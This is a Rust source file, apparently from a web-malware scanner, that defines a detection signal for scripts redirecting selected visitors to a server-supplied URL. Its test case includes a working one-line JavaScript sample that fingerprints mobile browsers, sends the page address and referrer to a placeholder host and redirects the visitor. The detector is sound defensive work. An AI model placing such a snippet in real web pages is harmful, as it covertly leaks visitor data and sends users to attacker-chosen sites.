//! `answer-sends-visitors-on`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "answer-sends-visitors-on",
    description: "The script sends some visitors, once each, to the URL that a server returns.",
    severity: Severity::Medium,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::AnswerNavigates]),
        one(&[Atom::BrowserCheck]),
        one(&[Atom::Storage, Atom::Cookie]),
        one(&[Atom::Referrer, Atom::PageAddress]),
    ],
    within: 300,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "if(/Mobi|Android/.test(navigator.userAgent)&&!sessionStorage.getItem('r'))fetch('https://c.example/d',{method:'POST',body:JSON.stringify({u:location.href,f:document.referrer})}).then(r=>r.json()).then(function(d){sessionStorage.setItem('r','1');location.href=d.url})",
        ],
        without: &[
            "fetch('/login',{method:'POST',body:b}).then(r=>r.json()).then(function(d){location.href=d.url})",
        ],
    },
};
